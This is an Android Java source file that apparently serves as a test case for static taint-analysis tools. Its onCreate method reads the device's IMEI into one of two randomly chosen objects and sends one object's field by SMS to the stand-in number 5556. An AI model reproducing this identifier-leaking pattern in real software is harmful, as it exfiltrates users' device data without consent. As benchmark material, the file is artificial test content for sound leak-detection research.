package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** Either of two objects is filled; both may be the one that is sent. */
public class Merged extends Case {
    static class Box { String f = ""; }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        Box a = new Box(), b = new Box();
        Box c = Math.random() > 0.5 ? a : b;
        c.f = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        SmsManager.getDefault().sendTextMessage("5556", null, a.f, null, null);
    }
}
